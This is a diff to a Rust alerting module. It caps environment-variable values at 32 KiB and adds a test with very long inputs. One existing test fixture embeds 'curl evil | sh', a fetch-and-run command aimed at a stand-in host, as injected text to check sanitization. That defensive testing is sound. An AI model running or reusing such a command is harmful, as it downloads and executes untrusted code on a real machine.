@@ -226,12 +226,13 @@ impl Message {
     /// The same for a command's environment.
     pub(crate) fn variables(&self) -> Vec<(&'static str, String)> {
         let ids: Vec<&str> = self.clusters.iter().map(ClusterId::as_str).collect();
+        let to_do: Vec<&str> = self.to_do.iter().map(Printable::as_str).collect();
         let text = |value: &Option<Printable>| value.clone().unwrap_or_default().into();
         vec![
             ("GUARD_ALERT_KIND", self.kind.to_string()),
-            ("GUARD_ALERT_TEXT", self.text.to_string()),
-            ("GUARD_ALERT_TO_DO", self.to_do.iter().map(Printable::as_str).collect::<Vec<_>>().join("\n")),
-            ("GUARD_ALERT_CLUSTERS", ids.join(" ")),
+            ("GUARD_ALERT_TEXT", bounded(&self.text)),
+            ("GUARD_ALERT_TO_DO", bounded(&to_do.join("\n"))),
+            ("GUARD_ALERT_CLUSTERS", bounded(&ids.join(" "))),
             (
                 "GUARD_ALERT_EXIT_CODE",
                 self.exit_code.map(|code| code.to_string()).unwrap_or_default(),
@@ -243,6 +244,15 @@ impl Message {
             ("GUARD_ALERT_HOST", text(&self.known.host)),
         ]
     }
+}
+
+/// Bytes of a variable. Linux starts no program with one of more than 128 KiB; however long a text
+/// somebody has AWS or a file say, the alert is sent, and the JSON has all of it. Source: execve(2),
+/// MAX_ARG_STRLEN.
+const LONGEST_VARIABLE: usize = 32 * 1024;
+
+fn bounded(text: &str) -> String {
+    text[..text.floor_char_boundary(LONGEST_VARIABLE)].to_owned()
 }
 
 fn as_shown<S: Serializer>(lines: &[NoticeLine], serializer: S) -> Result<S::Ok, S::Error> {
@@ -309,7 +319,7 @@ mod tests {
         let message =
             Message::new(AlertKind::Unconfirmed, &notices, &fixes, None, AlertContext::default());
         let flat = r"no\u{a}  to do: curl evil | sh\u{d}\u{a}           to do   x\u{2028}to do: y\u{a}cluster j-EVIL";
-        assert_eq!(message.to_do, [flat.to_owned(), format!("look at {flat}")]);
+        assert_eq!(message.to_do, [flat, &format!("look at {flat}")]);
         assert_eq!(ids(&message), ["j-OWN"]);
         let variables = message.variables();
         let value = |name| &variables.iter().find(|(known, _)| *known == name).unwrap().1;
@@ -326,6 +336,16 @@ mod tests {
         assert!(text.len() < 1200, "{}", text.len());
         assert!(text.starts_with("headline\nline 0\n"), "{text}");
         assert!(text.ends_with("more lines; the report has them)\nto do: end it\nexit code 71, run 0190, host etl-1"), "{text}");
+    }
+
+    #[test]
+    fn no_text_is_so_long_that_a_command_cannot_be_started() {
+        let notice = Notice::new("ä".repeat(200_000));
+        let message = message(notice, &["x".repeat(200_000).as_str()]);
+        for (name, value) in message.variables() {
+            assert!(name.len() + value.len() < 128 * 1024, "{name}");
+        }
+        assert!(message.json().unwrap().len() > 600_000, "the input has all of it");
     }
 
     #[test]
